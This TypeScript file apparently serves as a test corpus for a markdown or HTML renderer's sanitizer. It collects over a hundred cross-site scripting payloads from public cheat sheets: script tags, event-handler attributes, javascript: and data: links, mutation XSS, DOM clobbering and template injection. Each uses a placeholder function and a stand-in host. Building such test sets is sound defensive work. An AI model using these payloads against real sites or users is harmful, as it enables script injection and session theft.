/**
 * Public payloads that have run scripts in other renderers; of raw HTML, one of each technique. `hit()` stands for what an
 * attacker would do; `x.test` for their server.
 */

/** OWASP, XSS Filter Evasion Cheat Sheet. */
const owasp = [
  '<script>hit()</script>',
  '<SCRIPT SRC=https://x.test/xss.js></SCRIPT>',
  '</script><script>hit()</script>',
  '"><script>hit()</script>',
  '<IMG SRC="javascript:hit();">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;hit()>',
  '<IMG SRC=" &#14; javascript:hit();">',
  '<DIV STYLE="width: expression(hit());">',
  '<![CDATA[<script>hit()</script>]]>',
]

/** PortSwigger, Cross-site scripting cheat sheet. */
const elements = [
  '<form action="javascript:hit()"><button>a</button></form>',
  '<details open ontoggle=hit()>a</details>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=hit() /></svg>#x">',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="hit()"></b>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<a href="data:text/html,<script>hit()</script>">a</a>',
  '{{constructor.constructor("hit()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template would fill in
  '${hit()}',
]

/** Markup that changes when it is parsed again. DOMPurify's fixtures; Heiderich et al., "mXSS Attacks" (2013). */
const mutating = [
  '<math><mi><table><mglyph><style><math><img src=x onerror=hit()></style></mglyph></table></mi></math>',
  '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
  '<svg><desc><noscript><img title="</noscript><img src=x onerror=hit()>"></noscript></desc></svg>',
  '<img alt="``onerror=hit()" src=x>',
  '<a href="x`onmouseover=hit()">a</a>',
]

/** Names that shadow the page's own. PortSwigger, "DOM clobbering"; Khodayari and Pellegrino (2023). */
const clobbering = [
  '<a id=config><a id=config name=url href="https://x.test/a.js">',
  '<form id=document name=body><input name=attributes></form>',
  '## currentScript {#currentScript}',
  '[location]: https://x.test\n\n[location]',
  '[a](https://x.test){#location .hit}',
  '[__proto__]: https://x.test\n\n[__proto__] [constructor] [toString]',
]

/** cujanovic/Markdown-XSS-Payloads, and the issues of several renderers. */
const markdown = [
  '[a](javascript:hit())',
  '[a](JaVaScRiPt:hit())',
  '[a](javascript://x.test/%0ahit())',
  '[a](javascript&colon;hit())',
  '[a](java&#115;cript:hit())',
  '[a](<javascript:hit()>)',
  '[a](\u0001javascript:hit())',
  '[a](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)',
  '[a](data:image/svg+xml,<svg onload=hit()>)',
  '[a](vbscript:hit())',
  '[a](\\javascript:hit())',
  '[a](//x.test/\\"onmouseover=hit())',
  '[a](https://x.test" onmouseover="hit())',
  '[a](https://x.test "a" onmouseover="hit()")',
  "[a](https://x.test '\"><script>hit()</script>')",
  "[a](https://x.test'onmouseover='hit())",
  '[<img src=x onerror=hit()>](https://x.test)',
  '[a][b]\n\n[b]: javascript:hit()',
  '[b]\n\n[b]: <javascript:hit()> "a"',
  '[b]\n\n[b]: https://x.test "><script>hit()</script>"',
  '<javascript:hit()>',
  '<javascript&colon;hit()>',
  '<https://x.test/"onmouseover="hit()>',
  '<https://x.test/><script>hit()</script>',
  '<a@b.test"onmouseover="hit()>',
  'javascript:hit()',
  'https://x.test/"onmouseover="hit()',
  '![a](https://x.test/a.png)',
  '![a](https://x.test/a.png"onerror="hit())',
  '![a"onerror="hit()](https://x.test/a.png)',
  '![a](javascript:hit())',
  '[![a](https://x.test/a.png)](javascript:hit())',
  '![[a](javascript:hit())](https://x.test/a.png)',
  '```"><script>hit()</script>\na\n```',
  '```a" onmouseover="hit()\na\n```',
  '    <script>hit()</script>',
  '| <script>hit()</script> | b |\n|:-:|-|\n| [a](javascript:hit()) | <img src=x onerror=hit()> |',
  '| a |\n|:"onmouseover="hit()-:|\n| b |',
  '~~<img src=x onerror=hit()>~~',
  '*a*<script>hit()</script>*b*',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&#60;script&#62;hit()&#60;/script&#62;',
  '<div\nonmouseover="hit()"\n>a</div>',
  '[^1]\n\n[^1]: <script>hit()</script>',
  '[a](https://x.test){onclick=hit()}',
  '[a](https://x.test){:onclick="hit()"}',
  '[[javascript:hit()]]',
  '＜script＞hit()＜/script＞',
]

/** Disguised addresses. OWASP; the URL Standard's tests; tests of markdown-it, marked, commonmark.js and cmark. */
const addresses = [
  '[a](tel:"onclick="hit())',
  '[a](&#0;javascript:hit())',
  '[a](&NewLine;javascript:hit())',
  '[a](java&NewLine;script:hit())',
  '[a](javascript&#58;hit())',
  '[a](java\\script:hit())',
  '[a](javascript%3Ahit())',
  '[a](ｊａｖａｓｃｒｉｐｔ:hit())',
  '[a](java\u200bscript:hit())',
  '[a](\ufeffjavascript:hit())',
  '[a](\u00adjavascript:hit())',
  '[a](\u202ejavascript:hit())',
  '[a](jar:javascript:hit()!/)',
  '[a](data&colon;text/html,hit)',
  '[a](data:text/html;charset=utf-7,+ADw-script+AD4-hit()+ADw-/script+AD4-)',
  '[a](http:javascript:hit())',
  '[a](https:/x.test)',
  '[a](http:\\\\x.test)',
  '[a](///x.test)',
  '[a](?next=javascript:hit())',
  '[a](#" onclick="hit())',
  '[a](https://x.test:javascript@x.test/)',
  '[a](https://javascript:hit()@x.test/)',
  '[a](https://x.test/%22onmouseover=%22hit())',
  '[a](https://x.test/&quot;onmouseover=&quot;hit())',
  '[a](<https://x.test/" onmouseover="hit()>)',
  '[a](mailto:a@b.test?subject="><script>hit()</script>)',
  '<JAVASCRIPT:hit()>',
  '<data:text/html,hit>',
  '<x:y onmouseover=hit()>',
  '<mailto:a@b.test"onmouseover="hit()>',
  'data:text/html,<script>hit()</script>',
  'https://x.test/`onmouseover=hit()`',
  'https://x.test/%3Cscript%3Ehit()%3C/script%3E',
]

/** Quotes and titles that end elsewhere. Issues of markdown-it, marked, showdown, remark, CodiMD. */
const composed = [
  '[a](https://x.test \'a" onmouseover="hit()\')',
  '[a](https://x.test (a" onmouseover="hit()))',
  '![a](https://x.test/a.png "b" onload="hit()")',
  "![](x'onerror='hit())",
  '![`"onerror=hit()`](https://x.test/a.png)',
  '![**"><script>hit()</script>**](https://x.test/a.png)',
  '[![![a](https://x.test/a.png)](https://x.test/b.png)](javascript:hit())',
  '[a](<![b](javascript:hit())>)',
  '[`a](javascript:hit())`](https://x.test)',
  '*[a](javascript:hit())*',
  '> - 1. [a](javascript:hit())',
  '[a]: <javascript:hit()>\n[b]: https://x.test "\n<script>hit()</script>\n"\n\n[a] [b]',
  '[ a\n]: javascript:hit()\n\n[A]',
  '| a" onmouseover="hit() |\n|:-:|',
  '<a href="\n\njavascript:hit()">a</a>',
  '``` "><img src=x onerror=hit()>\na\n```',
  '- [ ](javascript:hit())',
  '\\[a](javascript:hit())',
  '[a\\](javascript:hit())',
  '<scr\u0000ipt>hit()</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template would fill in
  '${{hit()}} <%= hit() %> #{hit()} [[${hit()}]]',
  '---\ntitle: <script>hit()</script>\n---',
]

export const corpus: readonly string[] = [
  ...[owasp, elements, mutating, clobbering, markdown, addresses, composed].flat(),
]
